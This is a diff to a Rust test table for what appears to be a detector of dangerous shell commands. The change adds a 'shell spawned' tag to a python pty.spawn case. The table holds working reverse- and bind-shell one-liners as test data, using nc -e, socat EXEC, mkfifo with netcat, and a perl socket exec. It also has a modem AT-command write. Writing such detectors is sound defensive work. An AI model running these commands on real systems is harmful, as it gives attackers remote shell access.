@@ -177,7 +177,7 @@ mod tests {
             ("mkfifo /tmp/f; nc -l 99 </tmp/f | sh >/tmp/f", vec!["mkfifo", "nc -l"]),
             ("nc 10.1.1.1 80 -e /bin/sh", vec!["nc -e"]),
             ("socat TCP:1.2.3.4:5 EXEC:/bin/sh,pty", vec!["socat", "socat exec"]),
-            ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", vec!["pty.spawn"]),
+            ("python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", vec!["pty.spawn", "shell spawned"]),
             ("echo 'AT+CGDCONT=1' > /dev/ttyUSB2", vec!["AT command", "modem device"]),
             ("perl -e 'use Socket; socket(S,1,2,3); exec(\"/bin/sh -i\");'", vec!["shell spawned", "socket"]),
             ("subprocess.call([\"/bin/bash\", \"-i\"])", vec!["shell spawned"]),
